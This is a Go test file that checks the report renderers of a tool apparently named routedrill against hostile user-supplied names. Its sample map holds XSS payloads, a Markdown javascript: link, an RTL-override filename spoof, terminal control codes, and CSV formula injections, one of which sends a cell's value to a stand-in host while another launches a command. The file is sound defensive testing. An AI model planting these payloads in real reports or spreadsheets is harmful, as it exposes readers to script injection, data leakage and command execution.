package report_test

import (
	"bytes"
	stdcsv "encoding/csv"
	"encoding/json"
	"encoding/xml"
	"errors"
	"io"
	"regexp"
	"strconv"
	"strings"
	"testing"
	"unicode"

	"github.com/stretchr/testify/require"

	"github.com/routedrill/routedrill/report"
	"github.com/routedrill/routedrill/report/internal/synthetic"
	"github.com/routedrill/routedrill/report/render/csv"
	renderjson "github.com/routedrill/routedrill/report/render/json"
	"github.com/routedrill/routedrill/report/render/junit"
	"github.com/routedrill/routedrill/report/render/markdown"
	"github.com/routedrill/routedrill/report/render/table"
	"github.com/routedrill/routedrill/report/timeline"
	"github.com/routedrill/routedrill/sim/record"
)

// hostileNames are names that every format has to show as text. The page has a test
// of its own.
var hostileNames = map[string]string{
	"markup":   `<script>alert(1)</script><!-- --><img src=x onerror=alert(2)>`,
	"markdown": "**b** [x](javascript:1) ![i](http://h/i.png) | cell |\n# head `code`",
	"RTL":      "\u202egnp.exe\u202c مزود",
	"long":     strings.Repeat("x", 200),
	"emoji":    "👩‍👩‍👧 provider ❤️",
	"control":  "a\x00b\x1b[2Jc\r\nd\te",
	"formula":  `=HYPERLINK("http://h/?"&A1,"x")`,
	"plus":     "+1+cmd|' /C calc'!A0",
	"minus":    "-2+3",
	"at":       "@SUM(1)",
	"tab":      "\t=1",
}

// named gives a run one name for everything that a user may name.
func named(name string) *record.Run {
	run := synthetic.Run()
	run.Scenario, run.Summary, run.World, run.Findings = name, name, name, []string{name}
	run.Faults[0].ID = name
	run.Thresholds[0].Source = name
	for i := range run.Cells {
		c := &run.Cells[i]
		c.Policy = name + strconv.Itoa(i)
		c.Tasks, c.Providers = []string{name, name + "2"}, []string{name, name + "2"}
		for k := range c.Targets {
			c.Targets[k].Name = name + "/" + name + strconv.Itoa(k)
		}
	}
	return run
}

func TestHostileNames(t *testing.T) {
	for kind, name := range hostileNames {
		t.Run(kind, func(t *testing.T) {
			run := named(name)
			result := report.Compute(run, synthetic.Invariants(run, true))
			text := func(write func(io.Writer) error) string {
				var b bytes.Buffer
				require.NoError(t, write(&b))
				return b.String()
			}
			requireShown(t, text(func(w io.Writer) error {
				return table.Write(w, result, table.Options{Timeline: timeline.Of(run)})
			}))
			requireMarkdown(t, text(func(w io.Writer) error { return markdown.Write(w, result) }))
			requireXML(t, text(func(w io.Writer) error { return junit.Write(w, result) }))
			requireSheet(t, text(func(w io.Writer) error { return csv.Write(w, result) }))
			var back report.Result
			require.NoError(t, json.Unmarshal([]byte(text(func(w io.Writer) error { return renderjson.Write(w, result) })), &back))
			require.Equal(t, name, back.Scenario, "JSON has the name itself")
			require.Equal(t, name+"0", back.Cells[0].Policy)
		})
	}
}

// requireShown requires that nothing controls the display.
func requireShown(t *testing.T, text string) {
	t.Helper()
	for _, r := range text {
		require.True(t, r == '\n' || unicode.IsPrint(r), "%q", r)
	}
}

// requireMarkdown requires that there is no markup but our own, and that every row
// of a table has the cells of its head.
func requireMarkdown(t *testing.T, text string) {
	t.Helper()
	requireShown(t, text)
	text, _, _ = strings.Cut(text, "\n```") // the command is code
	require.NotRegexp(t, `(?i)<(script|img|!--)`, text)
	require.NotRegexp(t, `(^|[^\\])(!\[|\]\()`, text)
	cells := regexp.MustCompile(`\\.`)
	columns := 0
	for line := range strings.Lines(text) {
		if !strings.HasPrefix(line, "|") {
			columns = 0
			continue
		}
		n := strings.Count(cells.ReplaceAllString(line, ""), "|")
		if columns == 0 {
			columns = n
		}
		require.Equal(t, columns, n, line)
	}
}

func requireXML(t *testing.T, text string) {
	t.Helper()
	d := xml.NewDecoder(strings.NewReader(text))
	for {
		token, err := d.Token()
		if errors.Is(err, io.EOF) {
			return
		}
		require.NoError(t, err)
		if e, ok := token.(xml.StartElement); ok {
			require.NotContains(t, []string{"script", "img"}, e.Name.Local)
		}
	}
}

// requireSheet requires that a spreadsheet takes no field for a formula.
func requireSheet(t *testing.T, text string) {
	t.Helper()
	rows, err := stdcsv.NewReader(strings.NewReader(text)).ReadAll()
	require.NoError(t, err)
	for _, row := range rows {
		for _, field := range row {
			if _, err := strconv.ParseFloat(field, 64); err == nil || field == "" {
				continue
			}
			require.NotContains(t, "=+-@\t\r\n", field[:1], "%q", field)
		}
	}
}
